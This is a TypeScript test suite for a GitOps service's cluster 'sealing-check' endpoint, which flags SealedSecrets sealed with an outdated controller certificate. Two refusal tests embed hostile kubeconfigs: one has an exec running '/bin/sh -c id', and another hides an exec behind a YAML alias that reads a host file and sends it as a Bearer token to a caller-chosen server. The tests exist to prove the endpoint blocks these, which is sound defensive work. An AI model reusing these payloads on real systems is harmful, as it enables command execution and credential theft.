/**
 * The cluster detail's sealing section over real parts: a real Git repository
 * read by the real GitFleetSource, the real HTTP app, and the controller's
 * certificate read through the Kubernetes API double's service proxy with a
 * real kubeconfig, as kubeseal reads it.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { pathToFileURL } from 'node:url';
import type { FastifyInstance } from 'fastify';
import { FsRepoReader } from '../git/fs-repo-reader.js';
import { CliGitRemote } from '../git/cli-git-remote.js';
import { renderWorkTree } from '../git/render-work-tree.js';
import { initPlatformRepository } from '../git/seed-repository.js';
import { writeTree } from '../git/write-tree.js';
import { rotateCredentials } from '../gitops/rotate-credentials.js';
import { KubeControllerCertificateSource } from '../kubernetes/kube-controller-certificate-source.js';
import { PgRunStore } from '../db/pg-run-store.js';
import { platformDir } from '../package-paths.js';
import { createPino } from '../pino-logger.js';
import { parseSealingCertificate } from '../sealing/sealing-certificate.js';
import { createTestCertificate } from '../sealing/test-certificate.js';
import { RunService } from '../service/run-service.js';
import { StaticTokenAuthenticator } from '../service/static-token-authenticator.js';
import { GitFleetSource } from '../sources/git-fleet-source.js';
import { createBareRepository } from '../../test/support/git-server.js';
import { git } from '../../test/support/git.js';
import { startKubeApiDouble, type KubeApiDouble } from '../../test/support/kube-api-double.js';
import { unusedExecutor, unusedPreviewer } from '../../test/support/unused-executor.js';
import { createHttpApp } from './create-http-app.js';

const TOKEN = 'sealing-check-token-0123456789abcdef';
const AUTH = { authorization: `Bearer ${TOKEN}` };
const IDENTITY = ['-c', 'user.name=test', '-c', 'user.email=test@example.invalid'];
const CERT_PATH = '/api/v1/namespaces/kube-system/services/http:sealed-secrets-controller:http/proxy/v1/cert.pem';
const RABBITMQ = 'clusters/eu-1/database/sealed/sealed-rabbitmq-credentials.yaml';
const HAND_MADE = 'clusters/eu-1/apps/sealed/hand-made.yaml';

interface SealingSection {
  controller_certificate: { fingerprint: string; not_after: string } | null;
  reason?: string;
  sealed_secrets: number;
  stale: { path: string; namespace: string; name: string; sealed_with?: string }[];
  unknown: { path: string; namespace: string; name: string }[];
  current_count: number | null;
}

describe('the sealing section of a cluster', () => {
  const older = parseSealingCertificate(createTestCertificate().certificatePem);
  const currentPem = createTestCertificate().certificatePem;
  const served = parseSealingCertificate(currentPem);
  let tmp: string;
  let work: string;
  let bare: string;
  let double: KubeApiDouble;
  let kubeconfig: string;
  let store: PgRunStore;
  let app: FastifyInstance;
  const logged: string[] = [];

  const check = (name: string, body: unknown) =>
    app.inject({ method: 'POST', url: `/api/v1/clusters/${name}/sealing-check`, headers: AUTH, payload: body as object });

  before(async () => {
    tmp = await mkdtemp(join(tmpdir(), 'sealing-check-'));
    work = join(tmp, 'work');
    bare = join(tmp, 'gitops.git');
    await createBareRepository(bare);
    await initPlatformRepository(work, platformDir());
    // Sealed with the certificate the controller serves now; then one credential resealed under the one it served before.
    await renderWorkTree(work, {
      cluster: { name: 'eu-1', domain: 'eu-1.example.net', region: 'eu-west-1' },
      pass: 'all',
      certificate: served,
      generatorVersion: 'test',
    });
    const back = await rotateCredentials(new FsRepoReader(work), {
      cluster: 'eu-1',
      certificate: older,
      credentials: ['database/rabbitmq-credentials'],
      values: { fresh: { random: (n) => randomBytes(n) } },
      generatorVersion: 'test',
    });
    await writeTree(work, back.files);
    // Sealed by hand: it records no certificate.
    const annotated = await readFile(join(work, RABBITMQ), 'utf8');
    await writeFile(
      join(work, HAND_MADE),
      annotated.replace(/\n {4}gitops-scaffolder\.io\/sealed-with: .*/, '').replace('name: rabbitmq-credentials', 'name: hand-made'),
    );
    await git(work, 'add', '--all');
    await git(work, ...IDENTITY, 'commit', '--quiet', '-m', 'eu-1');
    await git(work, 'push', '--quiet', bare, 'main:main');

    double = await startKubeApiDouble();
    double.setService('kube-system', 'sealed-secrets-controller', { ports: [{ name: 'http', port: 8080 }] });
    double.setProxyHandler('kube-system', 'sealed-secrets-controller', 'http', (request) =>
      request.path === '/v1/cert.pem'
        ? { status: 200, headers: { 'Content-Type': 'application/x-pem-file' }, body: currentPem }
        : { status: 404, body: '404 page not found\n' },
    );
    kubeconfig = await readFile(await double.writeKubeconfig(tmp), 'utf8');

    store = await PgRunStore.open();
    const url = pathToFileURL(bare).href;
    const service = new RunService({
      store,
      executor: unusedExecutor,
      previewer: unusedPreviewer,
      reference: 'development',
      defaultRepository: { ensure: async () => url },
    });
    const sink = new Writable({
      write(chunk: Buffer, _encoding, done) {
        logged.push(chunk.toString('utf8'));
        done();
      },
    });
    app = await createHttpApp({
      service,
      authenticator: new StaticTokenAuthenticator([TOKEN]),
      store,
      logger: createPino({ level: 'debug', destination: sink }),
      fleetSource: new GitFleetSource({ git: new CliGitRemote({}), reference: 'development', workRoot: tmp, ttlMs: 0 }),
      controllerCertificates: new KubeControllerCertificateSource(),
    });
  });

  after(async () => {
    await app?.close();
    await store?.close();
    await double?.stop();
    await rm(tmp, { recursive: true, force: true });
  });

  it('names the SealedSecret sealed with an older certificate than the one the controller serves, read through the service proxy', async () => {
    const from = double.requests.length;
    const response = await check('eu-1', { kubeconfig: { inline: kubeconfig } });
    assert.equal(response.statusCode, 200, response.body);
    const { sealing, name } = response.json<{ name: string; sealing: SealingSection }>();
    assert.equal(name, 'eu-1');
    assert.deepEqual(sealing.controller_certificate, { fingerprint: `sha256:${served.fingerprint}`, not_after: served.notAfter.toISOString() });
    assert.deepEqual(sealing.stale, [{ path: RABBITMQ, namespace: 'database', name: 'rabbitmq-credentials', sealed_with: `sha256:${older.fingerprint}` }]);
    assert.deepEqual(sealing.unknown, [{ path: HAND_MADE, namespace: 'database', name: 'hand-made' }]);
    // postgresql-credentials and tcr-database; no registry pull secret is sealed without registry auth.
    assert.equal(sealing.current_count, 2);
    assert.equal(sealing.sealed_secrets, 4);
    assert.ok(
      double.requests.slice(from).some((r) => r.method === 'GET' && r.path === CERT_PATH),
      'the certificate was read through the service proxy',
    );
    assert.ok(!logged.join('').includes(double.token), 'the kubeconfig token is not logged');
  });

  it('compares with a certificate the caller sends instead, without reaching the cluster', async () => {
    const from = double.requests.length;
    const response = await check('eu-1', { sealing: { certificate: currentPem } });
    assert.equal(response.statusCode, 200, response.body);
    assert.deepEqual(
      response.json<{ sealing: SealingSection }>().sealing.stale.map((s) => s.name),
      ['rabbitmq-credentials'],
    );
    const renewed = await check('eu-1', { sealing: { certificate: createTestCertificate().certificatePem } });
    assert.equal(renewed.json<{ sealing: SealingSection }>().sealing.stale.length, 3, 'after a renewal every annotated one is stale');
    assert.equal(double.requests.length, from);
  });

  it('GET names only the unannotated ones and says why the controller was not asked', async () => {
    const response = await app.inject({ method: 'GET', url: '/api/v1/clusters/eu-1', headers: AUTH });
    assert.equal(response.statusCode, 200, response.body);
    const { sealing } = response.json<{ sealing: SealingSection }>();
    assert.equal(sealing.controller_certificate, null);
    assert.match(sealing.reason ?? '', /sealing-check/);
    assert.deepEqual(sealing.stale, []);
    assert.deepEqual(
      sealing.unknown.map((s) => s.path),
      [HAND_MADE],
    );
    assert.equal(sealing.current_count, null);
  });

  it('answers a null certificate with the reason when the controller cannot be read', async () => {
    const response = await check('eu-1', { kubeconfig: { inline: kubeconfig }, controller: { namespace: 'sealing', name: 'missing' } });
    assert.equal(response.statusCode, 200, response.body);
    const { sealing } = response.json<{ sealing: SealingSection }>();
    assert.equal(sealing.controller_certificate, null);
    assert.match(sealing.reason ?? '', /Service sealing\/missing not found/);
    assert.equal(sealing.unknown.length, 1);
  });

  it('refuses a kubeconfig that would run a command, a Secret reference, a request with both or neither input, a non-certificate and an unknown cluster, before reaching any cluster', async () => {
    const from = double.requests.length;
    const exec = kubeconfig.replace(/token: .*/, 'exec: { command: /bin/sh, args: [-c, id], apiVersion: client.authentication.k8s.io/v1 }');
    const refused = await check('eu-1', { kubeconfig: { inline: exec } });
    assert.equal(refused.statusCode, 400, refused.body);
    assert.match(refused.body, /kubeconfig\.inline/);
    assert.match(refused.body, /runs a command/);
    for (const body of [{}, { kubeconfig: { inline: kubeconfig }, sealing: { certificate: currentPem } }]) {
      const response = await check('eu-1', body);
      assert.equal(response.statusCode, 400, response.body);
      assert.match(response.body, /exactly one of kubeconfig.inline or sealing.certificate/);
    }
    const secretRef = await check('eu-1', { kubeconfig: { secretRef: { namespace: 'clusters', name: 'eu-1', key: 'value' } } });
    assert.equal(secretRef.statusCode, 400, secretRef.body);
    assert.match(secretRef.body, /kubeconfig: unknown field\(s\): secretRef/);
    const weak = await check('eu-1', { sealing: { certificate: 'not a certificate' } });
    assert.equal(weak.statusCode, 400, weak.body);
    assert.match(weak.body, /"field":"sealing.certificate"/);
    const missing = await check('nowhere', { kubeconfig: { inline: kubeconfig } });
    assert.equal(missing.statusCode, 404, missing.body);
    assert.equal(double.requests.length, from, 'no request reached the cluster');
  });

  it('refuses an exec hidden behind a YAML alias before it runs: no command, no request, no host file sent as a Bearer token', async () => {
    // The attack as reported: an ExecCredential whose token is a host file, sent to a server the caller chose.
    const hostFile = join(tmp, 'host-secret');
    await writeFile(hostFile, 'SECRET-host-file-content');
    const marker = join(tmp, 'sealing-check-exec-ran');
    const seen: (string | undefined)[] = [];
    const capture = createServer((request, response) => {
      seen.push(request.headers.authorization);
      response.writeHead(404).end();
    });
    await new Promise<void>((resolve) => capture.listen(0, '127.0.0.1', resolve));
    try {
      const script = `touch ${marker}; printf '{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"%s"}}' "$(cat ${hostFile})"`;
      const user = JSON.stringify({
        name: 'evil',
        user: { exec: { apiVersion: 'client.authentication.k8s.io/v1', command: 'sh', args: ['-c', script], interactiveMode: 'Never' } },
      });
      const server = `http://127.0.0.1:${(capture.address() as AddressInfo).port}`;
      const from = double.requests.length;
      for (const parked of [`preferences: {x: &u ${user}}`, `extensions: [{name: x, extension: &u ${user}}]`]) {
        const aliased = [
          'apiVersion: v1',
          'kind: Config',
          parked,
          `clusters: [{name: c, cluster: {server: "${server}", insecure-skip-tls-verify: true}}]`,
          'users: [*u]',
          'contexts: [{name: c, context: {cluster: c, user: evil}}]',
          'current-context: c',
          '',
        ].join('\n');
        const refused = await check('eu-1', { kubeconfig: { inline: aliased } });
        assert.equal(refused.statusCode, 400, refused.body);
        assert.match(refused.body, /"field":"kubeconfig\.inline"/);
        assert.match(refused.body, /YAML alias \(\*name\) at users\[0\]/);
        assert.ok(!refused.body.includes('SECRET-host-file-content'));
      }
      assert.equal(existsSync(marker), false, 'the exec command never ran');
      assert.deepEqual(seen, [], 'no request reached the server the caller chose, so no Bearer token left');
      assert.equal(double.requests.length, from);
    } finally {
      await new Promise<void>((resolve) => capture.close(() => resolve()));
    }
  });

  it('names none once the stale one is resealed and pushed: nothing read at the older commit is reused', async () => {
    assert.equal((await check('eu-1', { kubeconfig: { inline: kubeconfig } })).json<{ sealing: SealingSection }>().sealing.stale.length, 1);
    const plan = await rotateCredentials(new FsRepoReader(work), {
      cluster: 'eu-1',
      certificate: served,
      values: { fresh: { random: (n) => randomBytes(n) } },
      generatorVersion: 'test',
    });
    // Fresh values: the reseal, and the Job that sets the new password where RabbitMQ keeps it, listed in the layer.
    const [resealed, ...others] = [...plan.files.keys()];
    assert.equal(resealed, RABBITMQ);
    assert.deepEqual(others.map((p) => p.replace(/-[0-9a-f]{10}\.yaml$/, '-<hash>.yaml')).sort(), [
      'clusters/eu-1/database/sealed/kustomization.yaml',
      'clusters/eu-1/database/sealed/rabbitmq-credentials-rotation-<hash>.yaml',
    ]);
    await writeTree(work, plan.files);
    await git(work, 'add', '--all');
    await git(work, ...IDENTITY, 'commit', '--quiet', '-m', 'Reseal rabbitmq-credentials');
    await git(work, 'push', '--quiet', bare, 'main:main');
    const { sealing } = (await check('eu-1', { kubeconfig: { inline: kubeconfig } })).json<{ sealing: SealingSection }>();
    assert.deepEqual(sealing.stale, []);
    assert.equal(sealing.current_count, 3);
  });

  it('is described in the OpenAPI document', async () => {
    const response = await app.inject({ method: 'GET', url: '/openapi.json', headers: AUTH });
    const paths = response.json<{ paths: Record<string, Record<string, { requestBody?: unknown }>> }>().paths;
    assert.ok(paths['/api/v1/clusters/{name}/sealing-check']?.post?.requestBody);
    assert.match(JSON.stringify(paths['/api/v1/clusters/{name}']?.get), /controller_certificate/);
  });
});
